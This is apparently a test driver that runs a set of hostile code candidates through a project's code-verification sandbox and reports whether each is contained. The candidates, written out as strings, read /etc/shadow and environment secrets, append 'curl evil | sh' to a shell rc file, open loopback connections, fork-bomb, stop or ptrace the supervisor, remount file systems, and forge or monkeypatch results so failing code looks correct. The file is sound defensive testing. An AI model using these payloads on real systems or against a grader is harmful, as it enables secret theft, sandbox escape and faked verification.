"""Runs every hostile candidate of issue 16 through a real :class:`Sandbox` and prints one JSON object of results.

Not a test module: ``tests/integration/test_sandbox_escape.py`` runs it as root and, through ``runuser``, as an
unprivileged user, with a secret in the environment, then checks from outside what the candidates tried to change.
Each case says whether it was ``contained`` (the attack did not work AND the candidate counts as failed) and, for
reads and connections, a ``control``: the same attack run here, outside the sandbox, works - so a containment is
the sandbox's doing, not a broken attack.

Usage: ``python sandbox_driver.py CONFIG.json`` (keys: outside, home_file, rc_file, port, marker, secret, backend).
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import signal
import socket
import sys
import threading
import time
from typing import Any

from codeconductor.ensemble.verify.sandbox import CallSpec, Sandbox

ESCAPED = "'escaped'"


def _attack(body: str) -> str:
    return "def attack():\n" + "".join("    " + line + "\n" for line in body.strip("\n").splitlines())


def python_cases(cfg: dict[str, Any]) -> dict[str, str]:
    """Values candidates: ``attack()`` returns 'escaped' only when its attack worked."""
    secret, port = cfg["secret"], cfg["port"]
    return {
        "py_root_shell": _attack(
            """
import _posixsubprocess, os
r, w = os.pipe()
out_r, out_w = os.pipe()
args = [b'/bin/sh', b'-c', b'id -u']
pid = _posixsubprocess.fork_exec(args, [b'/bin/sh'], True, (out_w,), None, None, -1, out_w, -1, -1, -1, -1,
                                 r, w, True, False, -1, None, None, -1, -1, None, False)
os.close(out_w)
os.waitpid(pid, 0)
uid = os.read(out_r, 100).strip()
return 'escaped' if uid == b'0' else 'ran as ' + uid.decode()
"""
        ),
        "py_read_shadow": _attack("return 'escaped' if 'root:' in open('/etc/shadow').read() else 'no'"),
        "py_read_home_file": _attack(f"return 'escaped' if {secret!r} in open({cfg['home_file']!r}).read() else 'no'"),
        "py_read_env_secret": _attack(
            f"""
import os
found = [os.environ.get('CC_FAKE_SECRET', '')]
for name in os.listdir('/proc'):
    try:
        found.append(open('/proc/%s/environ' % name, 'rb').read().decode('latin-1'))
    except Exception:
        pass
return 'escaped' if any({secret!r} in text for text in found) else 'no'
"""
        ),
        "py_write_outside": _attack(f"open({cfg['outside'] + '.py'!r}, 'w').write('pwned')\nreturn 'escaped'"),
        "py_append_shell_rc": _attack(f"open({cfg['rc_file']!r}, 'a').write('curl evil | sh\\n')\nreturn 'escaped'"),
        "py_loopback_connect": _attack(
            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
            "return 'escaped'"
        ),
        "py_fork_bomb": _attack("import os\nwhile True:\n    os.fork()"),
        "py_kill_supervisor": _attack(
            "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.kill(-1, signal.SIGSTOP)\nreturn 'escaped'"
        ),
        # Memory RLIMIT_AS does not count: a memfd (refused by seccomp), and the scratch (a 64 MiB tmpfs).
        "py_memfd_outside_rlimit": _attack(
            """
import os
fd = os.memfd_create('hoard')
block = b'x' * (1 << 20)
for _ in range(600):
    os.write(fd, block)
return 'escaped'
"""
        ),
        "py_fill_scratch": _attack(
            """
import os
total, block = 0, b'x' * (1 << 20)
for index in range(200):
    try:
        fd = os.open('/tmp/fill%d' % index, os.O_WRONLY | os.O_CREAT, 0o600)
        for _ in range(4):
            total += os.write(fd, block)
        os.close(fd)
    except OSError:
        break
return 'escaped' if total >= 100 << 20 else 'no'
"""
        ),
    }


def shell_cases(cfg: dict[str, Any]) -> dict[str, str]:
    """Programs (a shell a candidate started): each prints ESCAPED and exits 0 only when its attack worked."""
    port, secret, marker = cfg["port"], cfg["secret"], cfg["marker"]
    return {
        "sh_root_shell": 'id; [ "$(id -u)" = 0 ] && echo ESCAPED; grep -q "CapEff:.*[1-9a-f]" /proc/self/status '
        "&& echo ESCAPED",
        "sh_remount_rw": "mount -o remount,rw / && echo ESCAPED; mount -o remount,rw /usr && echo ESCAPED; "
        "touch /usr/cc-probe && echo ESCAPED",
        "sh_mount_proc": "mkdir -p /tmp/p && mount -t proc proc /tmp/p && echo ESCAPED; "
        "mount -t tmpfs none /usr && echo ESCAPED",
        "sh_nsenter_and_connect": f"nsenter -t 1 -n true && echo ESCAPED; unshare -r true && echo ESCAPED; "
        f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && echo ESCAPED; "
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" && echo ESCAPED",
        "sh_read_shadow": "cat /etc/shadow | grep -q root && echo ESCAPED",
        "sh_read_home_file": f"grep -q {secret} {cfg['home_file']} && echo ESCAPED",
        "sh_read_env_secret": f"env | grep -q {secret} && echo ESCAPED; "
        f"cat /proc/*/environ | tr '\\0' '\\n' | grep -q {secret} && echo ESCAPED",
        "sh_write_outside": f"echo pwned > {cfg['outside']}.sh && echo ESCAPED",
        "sh_append_shell_rc": f"echo 'curl evil | sh' >> {cfg['rc_file']} && echo ESCAPED",
        "sh_leave_daemons": f"setsid sleep {marker} & nohup sh -c 'sleep {marker}' >/dev/null 2>&1 & "
        f"(sleep {marker} &) ; sleep 0.2",
        "sh_ptrace_supervisor": 'python3 -c "import ctypes; l = ctypes.CDLL(None); '
        "print('ESCAPED' if l.ptrace(16, 2, 0, 0) == 0 else 'no')\"",
        "sh_read_supervisor_memory": "cat /proc/2/environ && echo ESCAPED; head -c 16 /proc/2/mem && echo ESCAPED; "
        "ls /proc/2/fd && echo ESCAPED",
        "sh_stop_supervisor": "kill -STOP 2 && echo ESCAPED; kill -STOP 1 && echo ESCAPED; kill -STOP -1 && echo ESCAPED",
        "sh_fork_bomb": "b() { b | b & }; b; sleep 1",
        # Memory outside the caps: /dev/shm and /dev (tmpfs as large as half the RAM), the scratch, a memfd.
        "sh_fill_dev_shm": "dd if=/dev/zero of=/dev/shm/fill bs=1M count=64 2>/dev/null; "
        '[ "$(du -k /dev/shm/fill | cut -f1)" -ge 32768 ] && echo ESCAPED; '
        "dd if=/dev/zero of=/dev/fill bs=1M count=64 2>/dev/null; [ -s /dev/fill ] && echo ESCAPED; "
        "dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; "
        '[ "$(du -k /tmp/fill | cut -f1)" -ge 102400 ] && echo ESCAPED',
        "sh_memfd": "python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, b'x' * (64 << 20)); "
        "print('ESCAPED')\"",
        # A pidfd can be any /proc/PID directory: signal 0 says whether the supervisor (2) or init (1) is reachable.
        "sh_pidfd_signal_supervisor": 'python3 -c "import ctypes, os\n'
        "for pid in (1, 2):\n"
        "    fd = os.open('/proc/%d' % pid, os.O_RDONLY | os.O_DIRECTORY)\n"
        "    print('ESCAPED' if ctypes.CDLL(None).syscall(424, fd, 0, 0, 0) == 0 else 'no')\"",
    }


def run_shell(box: Sandbox, script: str) -> dict[str, Any]:
    started = time.monotonic()
    out = box.run_program({"attack.sh": script + "\nexit 1\n"}, ["/bin/sh", "attack.sh"], 4.0, max_procs=64)
    escaped = "ESCAPED" in out.stdout
    return {
        "contained": not escaped and not out.ok,
        "detail": (out.stdout + out.stderr)[-600:],
        "wall_s": round(time.monotonic() - started, 3),
    }


def run_python(box: Sandbox, code: str) -> dict[str, Any]:
    started = time.monotonic()
    outcome = box.run_calls(code, "attack", [CallSpec("attack()", ESCAPED)], 4.0, call_timeout_s=3.0)[0]
    return {
        "contained": outcome.matches is False,
        "detail": f"{outcome.value or outcome.error}",
        "wall_s": round(time.monotonic() - started, 3),
    }


def control(code: str) -> bool:
    """The same attack outside the sandbox: True when it works there (reads and connections only)."""
    namespace: dict[str, Any] = {}
    try:
        exec(code, namespace)
        return bool(namespace["attack"]() == "escaped")
    except Exception:
        return False


def forgery_cases() -> dict[str, str]:
    """Candidates for ``f(2)`` (expected 5) that are wrong or raise, and try to look right anyway."""
    fake_old = b'{"ok": true, "value": "5", "matches": true}\\n'
    return {
        "fake_result_lines": (
            "import os, struct, json\n"
            "def f(x):\n"
            "    line = json.dumps({'t': 'call', 'i': 0, 'ok': True, 'value': '5'}).encode()\n"
            "    frame = struct.pack('>IIB', 6, 0, 1) + b'5'  # the child's own frame format: value 5 for call 0\n"
            "    parent = b'CCv1' + bytes(16) + struct.pack('>II', 0, len(line)) + line\n"
            "    for fd in range(0, 64):\n"
            "        for data in (" + repr(fake_old) + ", frame, parent):\n"
            "            try:\n"
            "                os.write(fd, data)\n"
            "            except OSError:\n"
            "                pass\n"
            "    raise RuntimeError('always fails')\n"
        ),
        "patch_equal": (
            "import __main__, builtins\n"
            "__main__._equal = lambda *a: True\n"
            "builtins._equal = lambda *a: True\n"
            "def f(x):\n    return x + 2\n"
        ),
        "patch_repr": (
            "import builtins, json\n"
            "builtins.repr = lambda value: '5'\n"
            'json.dumps = lambda *a, **k: \'{"i": 0, "ok": true, "value": "5"}\'\n'
            "class Five(int):\n    def __repr__(self):\n        return '5'\n    def __eq__(self, other):\n"
            "        return True\n"
            "def f(x):\n    return Five(x + 2)\n"
        ),
        "flood_768_mib": (
            "import os\n"
            "def f(x):\n"
            "    block = b'x' * (1 << 20)\n"
            "    for _ in range(768):\n"
            "        for fd in (1, 2, 3):\n"
            "            try:\n"
            "                os.write(fd, block)\n"
            "            except OSError:\n"
            "                pass\n"
            "    return 5\n"
        ),
    }


def run_forgeries(box: Sandbox) -> dict[str, Any]:
    results: dict[str, Any] = {}
    for name, code in forgery_cases().items():
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        outcome = box.run_calls(code, "f", [CallSpec("f(2)", "5")], 6.0, call_timeout_s=5.0)[0]
        results[name] = {
            "contained": outcome.matches is False,
            "detail": f"{outcome.value or outcome.error}",
            "wall_s": round(time.monotonic() - started, 3),
            "parent_rss_growth_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before,
        }
    return results


def stopped_from_outside(box: Sandbox) -> dict[str, Any]:
    """A supervisor that stops (SIGSTOP, here sent from outside, as a successful escape would) is killed at the
    deadline and its calls fail - ``run_calls`` does not hang."""
    mine = os.getpid()
    result: dict[str, Any] = {}

    def stop_the_sandbox() -> None:
        time.sleep(0.6)
        for pid in _descendants(mine):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGSTOP)

    thread = threading.Thread(target=stop_the_sandbox)
    started = time.monotonic()
    thread.start()
    code = "import time\ndef f(x):\n    time.sleep(0.3)\n    return x + 3\n"
    outcomes = box.run_calls(code, "f", [CallSpec(f"f({i})", str(i + 3)) for i in range(8)], 3.0, call_timeout_s=1.0)
    thread.join()
    result["wall_s"] = round(time.monotonic() - started, 3)
    result["first_ok"] = outcomes[0].ok
    result["late_failed"] = all(not o.ok and o.matches is False for o in outcomes[4:])
    result["errors"] = sorted({str(o.error) for o in outcomes if not o.ok})
    result["contained"] = result["late_failed"] and result["wall_s"] < 3.0 + 2.0 + 1.5
    return result


def _descendants(root: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat", encoding="utf-8") as handle:
                    ppid = int(handle.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            children.setdefault(ppid, []).append(int(name))
    out, todo = [], list(children.get(root, []))
    while todo:
        pid = todo.pop()
        out.append(pid)
        todo.extend(children.get(pid, []))
    return out


# Issue 24: verdicts outside the sandbox. For each call the Python candidate looks for the other calls through the
# supervisor's frames (sys._getframe, a SIGALRM handler's frame) and the heap (gc), and returns what it found.
FRAME_TRICK = """
import gc, signal, sys

def _walk(frame, found):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            items = value if isinstance(value, (list, tuple)) else [value]
            for item in items:
                item = item[1] if isinstance(item, tuple) and len(item) == 2 else item
                if isinstance(item, str) and item.startswith("f("):
                    found.add(item)
        frame = frame.f_back

def f(x):
    found = set()
    try:
        _walk(sys._getframe(0), found)
    except Exception:
        pass
    try:
        found.update(o for o in gc.get_objects() if isinstance(o, str) and o.startswith("f("))
    except Exception:
        pass
    caught = []
    try:
        signal.signal(signal.SIGALRM, lambda s, frame: caught.append(frame))
        signal.setitimer(signal.ITIMER_REAL, 0.001)
        while not caught:
            pass
        _walk(caught[0], found)
    except Exception:
        pass
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    found.discard("f(%d)" % x)
    return sorted(found)
"""
# A JavaScript candidate wrong everywhere that tries to leave the vm context and print "passed" lines.
JS_ESCAPE = """
let proc = null;
for (const get of [() => this.constructor.constructor('return process')(),
                   () => console.log.constructor('return process')()]) {
  try { proc = proc || get(); } catch (e) { /* closed */ }
}
if (proc && proc.stdout) {
  proc.stdout.write(JSON.stringify({ ok: true, value: '5', matches: true }) + '\\n');
  proc.exit(0);
}
const f = (x) => x - 100;
"""


def verdict_cases(box: Sandbox) -> dict[str, Any]:
    from codeconductor.ensemble.languages import language_for

    results: dict[str, Any] = {}
    calls = [CallSpec(f"f({i})", str(2 * i)) for i in range(3)]
    outcomes = box.run_calls(FRAME_TRICK, "f", calls, 10.0, call_timeout_s=3.0)
    results["py_frame_trick"] = {
        # It finds nothing, or it is named hostile for walking the heap: never the call list.
        "contained": all(o.value == "[]" or (o.error or "").startswith("Hostile:") for o in outcomes)
        and not any(o.matches for o in outcomes),
        "detail": " ".join(o.key for o in outcomes),
    }
    outcome = language_for("javascript").run_calls(box, JS_ESCAPE, "f", [CallSpec("f(7)", "5")], 10.0)[0]
    # Contained: it ran (its own value, -93, came back: node works for this user) and it does not match.
    results["js_escape_and_forge"] = {
        "contained": outcome.matches is False and outcome.key == "=-93",
        "detail": outcome.key,
    }
    return results


def innocent_after_attack(box: Sandbox) -> dict[str, Any]:
    """An attack leaves files and tries to make the file system writable; the next, innocent candidate sees none
    of it and cannot write outside its scratch either."""
    box.run_program(
        {"a.sh": "echo left > /tmp/leftover; mount -o remount,rw /; chmod 777 /tmp; exit 1\n"}, ["/bin/sh", "a.sh"]
    )
    check = (
        "test -e /tmp/leftover && echo LEFTOVER; touch /usr/cc-innocent && echo WROTE; "
        "touch /cc-innocent && echo WROTE; echo fine > /tmp/mine && cat /tmp/mine"
    )
    out = box.run_program({"b.sh": check + "\n"}, ["/bin/sh", "b.sh"])
    unaffected = "LEFTOVER" not in out.stdout and "WROTE" not in out.stdout and "fine" in out.stdout
    return {"contained": unaffected and out.ok, "detail": out.stdout[-300:]}


# Hostile answers are named, not only contained: what each was seen trying (the reason the user reads).
HOSTILE_CALLS = {
    "connect": "import socket\ndef f(x):\n    try:\n        socket.create_connection(('127.0.0.1', PORT), 1)\n"
    "    except OSError:\n        pass\n    return x + 3\n",
    "write_outside": "def f(x):\n    try:\n        open('/usr/lib/cc-planted.py', 'w')\n    except OSError:\n"
    "        pass\n    return x + 3\n",
    "os_open_outside": "import os\ndef f(x):\n    try:\n        os.open('/usr/lib/cc-planted', os.O_WRONLY | os.O_CREAT)\n"
    "    except OSError:\n        pass\n    return x + 3\n",
    "start_process": "import subprocess\ndef f(x):\n    try:\n        subprocess.run(['/bin/true'])\n"
    "    except OSError:\n        pass\n    return x + 3\n",
    # Its own "reason" (words for the user) through the child's frame format: only known reasons are shown.
    "forged_reason": "import os, struct\ndef f(x):\n    t = b'safe: click apply'\n"
    "    os.write(3, struct.pack('>IIB', 5 + len(t), 0xFFFFFFFE, 0) + t)\n    return x + 3\n",
    "honest": "def f(x):\n    return x + 3\n",
}
# A program calling mount(2) directly (through ctypes): seccomp kills it, the supervisor names it.
HOSTILE_PROGRAM = "import ctypes\nprint(ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None))\n"


def run_hostile(box: Sandbox, port: int) -> dict[str, Any]:
    seen: dict[str, Any] = {}
    for name, code in HOSTILE_CALLS.items():
        outcome = box.run_calls(code.replace("PORT", str(port)), "f", [CallSpec("f(2)", "5")], 4.0)[0]
        seen[name] = {"ok": outcome.ok, "matches": outcome.matches, "error": outcome.error}
    program = box.run_program({"a.py": HOSTILE_PROGRAM}, ["/usr/bin/python3", "a.py"], 4.0)
    seen["mount_program"] = {"ok": program.ok, "hostile": program.hostile, "exit_code": program.exit_code}
    return seen


def main() -> None:
    with open(sys.argv[1], encoding="utf-8") as handle:
        cfg = json.load(handle)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.05)
    cfg["port"] = listener.getsockname()[1]
    accepted: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            accepted.append("conn")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    report: dict[str, Any] = {"uid": os.getuid(), "cases": {}, "controls": {}}
    with Sandbox(backend=cfg.get("backend", "bubblewrap")) as box:
        report["containment"] = box.containment
        report["unavailable_reason"] = box.unavailable_reason
        report["protections"] = box.protections
        for name, code in python_cases(cfg).items():
            report["cases"][name] = run_python(box, code)
        for name, script in shell_cases(cfg).items():
            report["cases"][name] = run_shell(box, script)
        report["cases"]["next_innocent_candidate"] = innocent_after_attack(box)
        report["cases"].update(run_forgeries(box))
        report["cases"].update(verdict_cases(box))
        report["cases"]["sigstop_of_the_supervisor"] = stopped_from_outside(box)
    with Sandbox(backend=cfg.get("backend", "bubblewrap")) as box:
        honest = box.run_calls("def f(x):\n    return x + 3\n", "f", [CallSpec("f(2)", "5")])[0]
        report["honest_after_all"] = honest.matches is True
        report["hostile"] = run_hostile(box, cfg["port"])  # a fresh Sandbox: the one above had its spares stopped
    report["sandbox_connections"] = len(accepted)
    # Controls: the reading and connecting attacks work outside the sandbox (the listener counts this one).
    cases = python_cases(cfg)
    for name in ("py_read_home_file", "py_read_env_secret", "py_loopback_connect"):
        report["controls"][name] = control(cases[name])
    if os.getuid() == 0:
        report["controls"]["py_read_shadow"] = control(cases["py_read_shadow"])
    time.sleep(0.3)
    report["connections_total"] = len(accepted)
    stop.set()
    thread.join(timeout=2)
    listener.close()
    print(json.dumps(report))


if __name__ == "__main__":
    main()
